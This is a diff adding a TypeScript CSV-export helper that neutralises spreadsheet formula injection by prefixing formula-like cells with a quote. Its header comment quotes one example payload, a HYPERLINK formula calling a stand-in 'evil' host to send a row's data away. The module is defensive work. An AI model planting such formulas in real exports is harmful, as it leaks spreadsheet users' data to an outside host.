@@ -1,0 +1,37 @@
+// Writing CSV (RFC 4180) for people to open in a spreadsheet: the one cell writer of every export,
+// the server's and the workspace's "Download CSV" (web/src/components/csv-export.tsx imports it).
+// Pure, no imports, so the browser bundle can take it as it is.
+//
+// CSV injection (issue 36 item 13, OWASP "CSV Injection"): a spreadsheet runs a cell that starts
+// with = + - @ (or a tab or carriage return before one) as a formula, so a contact named
+// =HYPERLINK("http://evil/?"&A1) becomes a live link that sends the row away. Such a cell is written
+// with a single quote in front, which the spreadsheet shows as text, and quoted. A plain number
+// (-5, +3.5, -12%) cannot be a formula and is written as it is, so the figures stay figures.
+
+export type CsvValue = string | number | boolean | null | undefined;
+
+/** The first characters that make a spreadsheet read a cell as a formula (with full-width forms). */
+const FORMULA_START = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;
+const PLAIN_NUMBER = /^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?%?$/;
+
+/** True when a spreadsheet would read this text as a formula. */
+export function isFormulaLike(s: string): boolean {
+  return FORMULA_START.test(s) && !PLAIN_NUMBER.test(s);
+}
+
+/** RFC 4180 quoting only: quoted when it holds a comma, a quote or a line break; quotes doubled. */
+export function quoteCsvField(s: string): string {
+  return /[",\r\n]/.test(s) ? `"${s.replaceAll('"', '""')}"` : s;
+}
+
+/** One exported cell: formula-like text neutralised (a leading ' and quoted), then RFC 4180 quoting. */
+export function csvCell(v: CsvValue): string {
+  const s = v === null || v === undefined ? "" : String(v);
+  if (isFormulaLike(s)) return `"'${s.replaceAll('"', '""')}"`;
+  return quoteCsvField(s);
+}
+
+/** A whole export: the header row, then the rows, CRLF line ends (RFC 4180). */
+export function toCsv(header: readonly CsvValue[], rows: readonly (readonly CsvValue[])[]): string {
+  return `${[header, ...rows].map((r) => r.map(csvCell).join(",")).join("\r\n")}\r\n`;
+}
